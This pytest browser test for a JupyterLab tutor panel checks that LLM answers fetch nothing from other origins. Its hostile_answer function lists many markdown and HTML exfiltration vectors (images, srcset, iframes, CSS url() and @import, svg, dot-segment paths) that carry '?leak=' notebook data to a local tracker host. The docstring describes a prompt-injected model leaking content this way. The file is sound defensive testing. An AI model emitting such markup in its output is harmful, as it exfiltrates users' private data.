"""LLM output in the tutor panel loads nothing from other origins (issue 9, item 4).

A prompt-injected model can write a markdown image or raw HTML whose URL carries the
learner's notebook content to another host. The fake LLM answers with every such vector
we know of, pointing at a real tracker HTTP server on another loopback origin (127.0.0.2)
that counts what reaches it, and at another learner's server on the same origin (the lab
runs under a JupyterHub-style /user/learner/ base URL); the panel must show the answer with
none of it loaded, the URLs visible as text.
"""

from __future__ import annotations

import base64
import json
import os
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from jupyter_core.paths import jupyter_path
from test_tutor_panel import CHAT, ask, expect, open_notebook, tutor_messages

from conftest import CHROMIUM, REPO, LabServer

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]


class HubLikeLab(LabServer):
    """conftest's `jupyter lab` under a JupyterHub-style base URL: other learners' servers
    share its origin under /user/<name>/, so same-origin is not the same as this server."""

    PREFIX = "user/learner"

    def api(self, method, endpoint, body=None, **query):
        return super().api(method, f"{self.PREFIX}/{endpoint}", body, **query)

    def lab_url(self, path=None):
        return super().lab_url(path).replace(self.url, f"{self.url}/{self.PREFIX}", 1)


@pytest.fixture(scope="module")
def lab(tmp_path_factory, fake_llm):
    """A hub-like `jupyter lab` serving this checkout's front end (what `jlpm build` writes to
    ltt_ext/labextension) ahead of the copy an earlier install left in share/jupyter: the test
    must run the renderer it tests. A config file, because a list does not survive the command line."""
    if not os.path.exists(CHROMIUM):
        pytest.skip(f"{CHROMIUM} is missing: install Debian's chromium (make test-deps does)")
    here = tmp_path_factory.mktemp("lab-config")
    (here / "labextensions").mkdir()
    (here / "labextensions" / "ltt-ext").symlink_to(REPO / "ltt_ext" / "labextension")  # served by name
    config = here / "this_build.py"
    paths = [str(here / "labextensions"), *jupyter_path("labextensions")]
    config.write_text(f"c.LabApp.labextensions_path = {json.dumps(paths)}\n")
    server = HubLikeLab(
        tmp_path_factory.mktemp("lab"),
        fake_llm.llm.base_url,
        [f"--config={config}", f"--ServerApp.base_url=/{HubLikeLab.PREFIX}/"],
    )
    yield server
    server.stop()


PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)


class Tracker:
    """An HTTP server on 127.0.0.2 that records every request (a pixel, a stylesheet, a page)."""

    def __init__(self):
        self.requests: list[str] = []
        tracker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                tracker.requests.append(self.path)
                kind = ("text/css", b"body{}") if ".css" in self.path else ("image/png", PIXEL)
                self.send_response(200)
                self.send_header("Content-Type", kind[0])
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(kind[1])

            do_POST = do_GET

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.2", 0), Handler)
        self.origin = f"http://127.0.0.2:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, name="tracker", daemon=True)
        self.thread.start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(10)


@pytest.fixture
def tracker():
    t = Tracker()
    yield t
    t.close()


def hostile_answer(t: str) -> str:
    """Every way we know for rendered markdown/HTML to fetch a URL on its own."""
    return f"""LEAK-TEST: here is a picture of your data.

![a chart]({t}/md.png?leak=notebook-content)

![ref image][ref]

[ref]: {t}/ref.png?leak=reference

<img src="{t}/img.png?leak=html-img" alt="html image">
<img srcset="{t}/srcset.png?leak=srcset 1x">
<picture><source srcset="{t}/picture.png?leak=picture"><img alt="picture"></picture>
<img src="//{t.split("//")[1]}/protocol-relative.png?leak=scheme-relative" alt="scheme-relative">
<input type="image" src="{t}/input.png?leak=input-image">
<video poster="{t}/poster.png?leak=poster" src="{t}/video.mp4?leak=video"></video>
<audio src="{t}/audio.mp3?leak=audio" autoplay></audio>
<video><source src="{t}/source.mp4?leak=source"><track src="{t}/track.vtt?leak=track"></video>
<iframe src="{t}/frame.html?leak=iframe"></iframe>
<object data="{t}/object?leak=object"></object>
<embed src="{t}/embed?leak=embed">
<link rel="stylesheet" href="{t}/style.css?leak=link">
<style>@import url("{t}/import.css?leak=import"); body {{ background: url({t}/style-bg.png?leak=style-tag); }}</style>
<span style="background-image: url({t}/bg.png?leak=inline-style)">styled</span>
<div style="background: url('{t}/bg2.png?leak=inline-style-2') no-repeat">styled 2</div>
<table background="{t}/table.png?leak=background-attr"><tr><td>cell</td></tr></table>
<svg><image href="{t}/svg.png?leak=svg" /></svg>

Read [the docs]({t}/page?leak=link) and {t}/bare?leak=autolink too.

Same origin, another learner's server: ![other server](/user/attacker/files/pixel.png?leak=other-server)
<img src="/user/learner/../attacker/files/dots.png?leak=dot-segments" alt="dots">

This server's own image is fine: ![sentinel](/{HubLikeLab.PREFIX}/static/favicons/favicon.ico)

LEAK-TEST-END
"""


def test_tutor_answers_load_nothing_from_other_origins(lab, fake_llm, open_browser, tracker):
    fake_llm.reset(default_reply=hostile_answer(tracker.origin))
    path = lab.write_notebook("leak.ipynb", ["secret = 'notebook-content'"])
    ctx = open_browser()
    page = open_notebook(ctx, lab, path)
    seen: list[str] = []  # what the page asked for, as Chromium issues it (before any network)
    page.on(
        "request", lambda r: seen.append(r.url) if "127.0.0.2" in r.url or "/attacker/" in r.url else None
    )

    ask(page, "Show me a picture of my data")
    answer = tutor_messages(page).filter(has_text="LEAK-TEST-END")
    expect(answer).to_have_count(1, timeout=60_000)
    expect(page.locator(f"{CHAT} .ltt-Badge-streaming")).to_have_count(0, timeout=60_000)
    # This server's image in the same answer has loaded: the browser has processed the
    # rendered HTML, so any other fetch in it would have been issued by now.
    sentinel = answer.locator("img[alt='sentinel']")
    expect(sentinel).to_have_count(1)
    page.wait_for_function("img => img.complete && img.naturalWidth > 0", arg=sentinel.element_handle())

    assert seen == [], f"the page requested URLs outside this server: {seen}"
    assert tracker.requests == [], f"requests reached the tracker: {tracker.requests}"
    # Nothing in the rendered answer still points outside this server ...
    remote = answer.evaluate(
        """(el, needles) => Array.from(el.querySelectorAll('*')).filter(n =>
        Array.from(n.attributes).some(a => needles.some(s => a.value.includes(s)))).map(n => n.outerHTML)""",
        [tracker.origin.split("//")[1], "/attacker/"],
    )
    assert remote == []
    expect(answer.locator("iframe, object, embed, link, style, svg")).to_have_count(0)
    # ... and the learner still sees what was there, as text.
    text = answer.inner_text()
    assert "a chart" in text and f"{tracker.origin}/md.png?leak=notebook-content" in text
    assert "the docs" in text and f"{tracker.origin}/page?leak=link" in text
    assert "other server" in text and "/user/attacker/files/pixel.png?leak=other-server" in text
    assert "styled" in text and "cell" in text

    # The same answer rendered from history (a fresh page) is held to the same rule.
    page = open_notebook(ctx, lab, path, page=page)
    again = tutor_messages(page).filter(has_text="LEAK-TEST-END")
    expect(again).to_have_count(1, timeout=60_000)
    sentinel = again.locator("img[alt='sentinel']")
    page.wait_for_function("img => img.complete && img.naturalWidth > 0", arg=sentinel.element_handle())
    assert seen == [] and tracker.requests == []
